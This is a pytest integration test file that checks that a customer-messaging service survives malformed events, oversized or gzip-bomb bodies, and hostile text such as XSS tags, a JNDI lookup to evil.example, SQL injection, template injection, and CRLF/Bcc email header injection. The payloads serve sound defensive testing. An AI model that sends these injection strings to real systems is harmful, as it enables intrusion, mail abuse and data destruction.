"""Whatever is posted at the front door: a clear answer, inert words, and nobody else lost or delayed.

Each room's own tests hold its own rules; here the whole product takes the blows at once.
"""

import gzip
import html
import json
import re
from collections.abc import Iterator
from copy import deepcopy
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from signalpost.record.customers import Customer
from signalpost.record.decisions import DecisionRow
from signalpost.record.enrolments import Enrolment
from signalpost.record.events import Event
from tests.integration.front_harness import Front, open_front

WRONG: list[Any] = [
    *(None, 7, -1.5, True, 1e308, 2**70, "", "\x00", "x" * 10_000),
    *([], {}, [[1]], {"a": {"b": 1}}),
]
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<!-- ]]> -->",
    "{{7*70707}} {% for x in range(10**9) %}",
    "${jndi:ldap://evil.example} %0d%0aBcc:x",
    "'; DROP TABLE customers;--",
    "-s0- {{slot}} -name- [%first_name%]",
    "Ann\r\nBcc: evil@evil.example",
    "nul\x00byte \x1b[2J",
    "\u202egnihsihp \u2066x",
    "😀🏳️‍🌈 e\u0301",
    "half\ud83d",
    "مرحبا שלום",
    "٣ ① Ⅷ ﬀ",
    "A" * 499,
]
UNFIT = set("\r\x00\x1b\u202e\u2066\ud83d")  #: what no phone and no mail server should be handed


@pytest.fixture
def front(tmp_path: Path, database_url: str) -> Iterator[Front]:
    with open_front(tmp_path, database_url) as opened:
        yield opened


def purchase(name: str, number: int) -> dict[str, Any]:
    """Make a purchase as Segment's clients send it, with every field that we read."""
    return {
        "type": "track",
        "event": "Order Completed",
        "messageId": f"m-{name}",
        "userId": name,
        "anonymousId": f"a-{name}",
        "timestamp": "2026-03-02T09:00:00Z",
        "context": {
            "locale": "en",
            "timezone": "UTC",
            "device": {"id": f"d-{name}"},
            "traits": {
                "email": f"{name}@example.com",
                "phone": f"+1206555{number:04d}",
                "first_name": "Ann",
                "locale": "en",
                "timezone": "UTC",
                "tier": "vip",
                "assigned_agent": "Maria",
                "marketing_consent": True,
            },
        },
        "properties": {
            "order_id": f"o-{name}",
            "total": 5,
            "currency": "USD",
            "products": [{"name": "Tea", "price": 5, "quantity": 1}],
        },
    }


def fraud(name: str, number: int) -> dict[str, Any]:
    """Make a fraud signal as a CloudEvent."""
    return {
        "specversion": "1.0",
        "id": f"i-{name}",
        "source": "risk",
        "type": "fraud.signalled",
        "time": "2026-03-02T09:00:00Z",
        "data": {
            "transaction_id": f"t-{name}",
            "merchant": "XYZ",
            "amount": {"amount": "10.00", "currency": "USD"},
            "occurred_at": "2026-03-02T08:59:00Z",
            "customer": {
                "userId": name,
                "email": f"{name}@example.com",
                "phone": f"+1206555{number:04d}",
            },
        },
    }


def fields(value: Any, before: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Give the way to every field."""
    if isinstance(value, dict | list):
        for key, part in value.items() if isinstance(value, dict) else enumerate(value):
            yield (*before, key)
            yield from fields(part, (*before, key))


def spoiled(event: dict[str, Any], way: tuple[Any, ...], value: Any) -> dict[str, Any]:
    copy: Any = deepcopy(event)
    place = copy
    for key in way[:-1]:
        place = place[key]
    place[way[-1]] = value
    return copy


def segment(front: Front, *events: Any) -> Any:
    """Post a batch whose half characters are escaped, as JavaScript does it."""
    return front.post("/v1/batch", content=json.dumps({"batch": list(events)}))


def cloud(front: Front, *events: Any) -> Any:
    kind = {"Content-Type": "application/cloudevents-batch+json"}
    return front.post("/v1/events", content=json.dumps(list(events)), headers=kind)


def tells_nothing(answer: Any) -> bool:
    """No traceback, and nothing of what was sent about a person."""
    return not re.search(r'Traceback|File "|@example\.com|\+1206555', answer.text)


def asides(front: Front) -> set[str | None]:
    return {one.reason for one in front.rows(Enrolment) if one.status == "set_aside"}


# -- shapes ------------------------------------------------------------------------------------


def test_any_field_of_a_segment_event_may_be_anything_and_the_batch_is_kept(front: Front) -> None:
    """One batch a field: all on the record, and whoever stood beside it gets every message."""
    number = 0
    good = []
    for place, way in enumerate(fields(purchase("x", 0))):
        bad = []
        for value in WRONG:
            number += 1
            bad.append(spoiled(purchase(f"u{number}", number), way, value))
        good.append(f"good{place}")
        answer = segment(front, *bad, purchase(good[-1], 9000 + place))
        assert (answer.status_code, answer.json()) == (200, {"success": True}), way
    assert len(front.rows(Event)) == number + len(good)
    front.stage.run_for(days=3, hours=1)
    for name in good:
        got = {one.message for one in front.sent_to(f"{name}@example.com")}
        assert got >= {"order_confirmation", "purchase_thanks"}, name
    assert asides(front) == set()


def test_any_field_of_a_cloud_event_may_be_anything_and_the_alerts_go_out(front: Front) -> None:
    number = 0
    good = []
    for place, way in enumerate(fields(fraud("x", 0))):
        bad = []
        for value in WRONG:
            number += 1
            bad.append(spoiled(fraud(f"u{number}", number), way, value))
        good.append(9000 + place)
        answer = cloud(front, *bad, fraud(f"good{place}", good[-1]))
        assert answer.status_code in (202, 207), way
        results = answer.json()["results"]
        assert {one["code"] for one in results} <= {202, 400, 409}
        assert all(one["reason"] for one in results if one["code"] == 400)
        assert results[-1]["code"] == 202
        assert tells_nothing(answer)
    front.stage.run_due()
    for one in good:
        assert [sent.message for sent in front.sent_to(f"+1206555{one}")] == ["fraud_alert"]
    assert asides(front) == set()


def test_half_an_emoji_costs_nobody_their_message(front: Front) -> None:
    r"""JavaScript cuts an emoji in two with ``slice`` and sends ``\ud83d``; other escapes stay."""
    event = purchase("ann", 1)
    event["properties"]["products"][0]["name"] = r"C:\ud83d 😀 " + "cut\ud83d"
    assert segment(front, event, purchase("bo", 2)).status_code == 200
    front.stage.run_due()
    text = front.sent_to("ann@example.com")[0].text
    assert r"C:\ud83d 😀 cut�" in text
    assert front.sent_to("bo@example.com")


@pytest.mark.parametrize("path", ["/v1/batch", "/v1/track", "/v1/identify", "/v1/events"])
@pytest.mark.parametrize(
    ("body", "headers", "status"),
    [
        (b'{"event":"x", "userId":', {}, 400),
        (b'{"a":' * 10_000 + b"1" + b"}" * 10_000, {}, 400),
        (b'{"a":' + b"[" * 240 + b"]" * 240 + b"}", {}, 400),
        (rb'{"a": "\ud83d", }', {}, 400),
        (b"x" * 600_000, {}, 413),
        (b"x" * 9_000_000, {}, 413),
        (gzip.compress(b"[" * 20_000_000), {"Content-Encoding": "gzip"}, 413),
        (gzip.compress(b"{}" * 900)[:-4], {"Content-Encoding": "gzip"}, 400),
    ],
    ids=["half", "10,000 deep", "240 deep", "surrogate", "600 KB", "9 MB", "bomb", "cut"],
)
def test_what_cannot_be_read_is_refused_and_the_next_one_is_served(
    tmp_path: Path, path: str, body: bytes, headers: dict[str, str], status: int
) -> None:
    with open_front(tmp_path) as front:
        answer = front.post(path, content=body, headers=headers)
        assert answer.status_code == status
        assert answer.json()["detail"]
        assert tells_nothing(answer)
        assert front.rows(Event) == []
        assert segment(front, purchase("ann", 1)).status_code == 200
        front.stage.run_due()
        assert len(front.stage.sent) == 2


@pytest.mark.parametrize(
    "path",
    [
        "/webhooks/sendgrid/events",
        "/webhooks/twilio/status",
        "/webhooks/twilio/inbound",
        "/links/answer/x",
        "/links/unsubscribe/x",
        "/v1/inbox/x/answer",
        "/v1/inbox/tokens",
        "/v1/customers/lookup",
        "/customers",
        "/login",
    ],
)
@pytest.mark.parametrize(
    "body", [b"[" * 100_000, b"\xff\x00\xd8" * 100, b"=" * 9_000_000], ids=["deep", "raw", "9 MB"]
)
def test_no_other_door_falls_over(tmp_path: Path, path: str, body: bytes) -> None:
    with open_front(tmp_path) as front:
        answer = front.client.post(path, content=body, follow_redirects=False)
        assert answer.status_code < 500
        assert tells_nothing(answer)
        assert front.client.get("/healthz").status_code == 200


# -- words -------------------------------------------------------------------------------------


def all_over(value: str, event: dict[str, Any], ways: list[tuple[Any, ...]]) -> dict[str, Any]:
    for way in ways:
        event = spoiled(event, way, value)
    return event


def test_hostile_words_come_out_inert_and_delay_nobody(front: Front) -> None:
    """Through all three journeys, on every channel, and on the pages about these people."""
    pickup: dict[str, Any] = {"store": "", "opening_hours": ""}
    for number, value in enumerate(HOSTILE):
        name = f"h{number}"
        person = [("context", "traits", key) for key in ("first_name", "assigned_agent")]
        product = ("properties", "products", 0, "name")
        bought = all_over(value, purchase(name, number), [*person, product])
        waits = bought | {
            "event": "Order Ready For Pickup",
            "messageId": f"p-{name}",
            "properties": {"order_id": f"o-{name}"} | dict.fromkeys(pickup, value),
        }
        assert segment(front, bought, waits).status_code == 200
        alert = all_over(value, fraud(name, number), [("data", "merchant")])
        assert cloud(front, alert).status_code == 202
    segment(front, purchase("ann", 9000))
    front.stage.run_for(days=3, hours=1)
    assert asides(front) == set()
    inboxes = {one.to for one in front.stage.sent if one.channel == "in_app"}
    assert len(inboxes) == len(HOSTILE) + 1
    for one in front.stage.sent:
        read = "".join(text for part, text in one.parts.items() if part != "html")
        assert not UNFIT & set("".join(one.parts.values()))
        assert not any("\n" in one.parts.get(part, "") for part in ("subject", "title"))
        assert not re.search(r"<script|<img src=x|<!-- \]\]", one.parts.get("html", ""))
        assert "494949" not in read
        if one.message == "fraud_alert" and one.channel == "sms":
            assert "http" not in one.text
    for number in range(len(HOSTILE)):
        got = {one.message for one in front.sent_to(f"h{number}@example.com")}
        assert got >= {"order_confirmation", "purchase_thanks", "early_bird"}, HOSTILE[number]
        texts = {one.message for one in front.sent_to(f"+1206555{number:04d}")}
        assert texts >= {"fraud_alert", "pickup_ready"}, HOSTILE[number]
    assert {one.message for one in front.sent_to("ann@example.com")} >= {"purchase_thanks"}


def test_the_pages_about_hostile_people_hold_no_markup_of_theirs(tmp_path: Path) -> None:
    with open_front(tmp_path) as front:
        for number, value in enumerate(HOSTILE):
            ways = [("context", "traits", "first_name"), ("properties", "products", 0, "name")]
            segment(front, all_over(value, purchase(f"h{number}", number), ways))
        front.stage.run_due()
        front.client.post("/login", data={"key": "read-key-of-the-tests"})
        for one in front.rows(Customer):
            for page in (f"/customers/{one.id}", f"/customers/{one.id}/why"):
                shown = front.client.get(page)
                assert shown.status_code == 200
                assert "timeline" in shown.text.lower()
                assert not re.search(r"<script>alert|<img src=x|<!-- \]\]", shown.text)
            assert front.read(f"/v1/customers/{one.id}/timeline").status_code == 200
        [ann] = [one for one in front.rows(Customer) if "script" in str(one.attributes)]
        assert html.escape(HOSTILE[0]) in front.client.get(f"/customers/{ann.id}").text


# -- people ------------------------------------------------------------------------------------

BAD_EMAILS = [
    "ann@example.com\r\nBcc: evil@evil.example",
    "ann@example.com\x00",
    "ann\u202e@example.com",
    "ann@example.com, evil@evil.example",
    '"ann" <ann@example.com>',
    "ann@exa mple.com",
    "ann@",
    "@example.com",
    "ann",
    "ann@example.com" * 30,
    "<script>@example.com",
    "ann@[127.0.0.1]",
    "-",
    "😀",
]
BAD_PHONES = [
    "+1206555\r\n0100",
    "12",
    "+1" + "5" * 40,
    "call me",
    "+1 (206) 555-0100; +44 20 7946 0018",
    "+00000000000",
    "911",
    "\x00",
]


def test_an_address_that_is_none_reaches_no_provider_and_its_owner_gets_the_rest(
    front: Front,
) -> None:
    """Header injection, lists of addresses, nonsense: noted on the event; in the app they get it all."""
    cases = [("email", value) for value in BAD_EMAILS] + [("phone", value) for value in BAD_PHONES]
    events = []
    for number, (kind, value) in enumerate(cases):
        events.append(spoiled(purchase(f"u{number}", number), ("context", "traits", kind), value))
    assert segment(front, *events, purchase("ann", 9000)).status_code == 200
    front.stage.run_due()
    plain = re.compile(r"u\d+@example\.com|ann@example\.com|\+1206555\d{4}|[0-9a-f-]{36}|u\d+|ann")
    for one in front.stage.sent:
        assert plain.fullmatch(one.to), one.to
    in_app = [one for one in front.stage.sent if one.channel == "in_app"]
    assert len(in_app) == len(cases) + 1
    reasons = [str(one.reason) for one in front.rows(Event)]
    assert sum("invalid_email" in reason for reason in reasons) == len(BAD_EMAILS)
    assert sum("invalid_phone" in reason for reason in reasons) == len(BAD_PHONES)
    skipped = [d for d in front.rows(DecisionRow) if d.reason == "no_contact_point"]
    assert len([d for d in skipped if d.channel == "email"]) == len(BAD_EMAILS)


@pytest.mark.parametrize(
    "locale", ["xx", "klingon", "zz-ZZ-x-y", "../../etc", "en\r\n", "ru_RU.UTF-8"]
)
def test_an_unknown_locale_gets_the_default_language(tmp_path: Path, locale: str) -> None:
    with open_front(tmp_path) as front:
        event = spoiled(purchase("ann", 1), ("context", "traits", "locale"), locale)
        segment(front, event)
        front.stage.run_due()
        subject = front.sent_to("ann@example.com")[0].parts["subject"]
        assert subject == "We have your order o-ann"


# -- times and names ---------------------------------------------------------------------------


def test_each_time_and_name_has_its_fate_and_the_good_one_goes_on(front: Front) -> None:
    """The future waits until then, what is years old starts nothing, nor does what nobody knows."""
    ahead = purchase("future", 1) | {"timestamp": "2026-03-03T09:00:00Z"}
    far = purchase("far", 2) | {"timestamp": "9999-12-31T23:59:59Z"}
    old = purchase("old", 3) | {"timestamp": "2019-03-02T09:00:00Z"}
    ancient = purchase("ancient", 4) | {"timestamp": "0001-01-01T00:00:00Z"}
    unknown = purchase("unknown", 5) | {"event": "Warp Drive Engaged"}
    unnamed = purchase("unnamed", 6) | {"event": "!!! ???"}
    answer = segment(front, ahead, far, old, ancient, unknown, unnamed, purchase("ann", 9))
    assert answer.status_code == 200
    stands = {one.message_id.removeprefix("segment:m-"): one for one in front.rows(Event)}
    assert {name: one.status for name, one in stands.items()} == {
        "future": "parked",
        "far": "parked",
        "old": "historic",
        "ancient": "historic",
        "unknown": "accepted",
        "unnamed": "parked",
        "ann": "accepted",
    }
    assert stands["unknown"].name == "track.warp_drive_engaged"
    front.stage.run_due()
    assert {one.message for one in front.stage.sent} == {"order_confirmation"}
    assert len(front.stage.sent) == 2
    assert front.read("/v1/events").status_code == 200


def test_the_same_batch_again_is_answered_the_same_and_says_nothing_twice(front: Front) -> None:
    """A client that missed our answer sends again, days later too."""
    events = [purchase("ann", 1), purchase("bo", 2) | {"event": 7}]
    first = segment(front, *events)
    front.stage.run_due()
    for later in (timedelta(0), timedelta(days=1)):
        front.stage.clock.now += later
        again = segment(front, *events)
        assert (again.status_code, again.text) == (first.status_code, first.text)
        front.stage.run_due()
    assert [one.message for one in front.sent_to("ann@example.com")] == ["order_confirmation"]
    assert len(front.rows(Event)) == 2
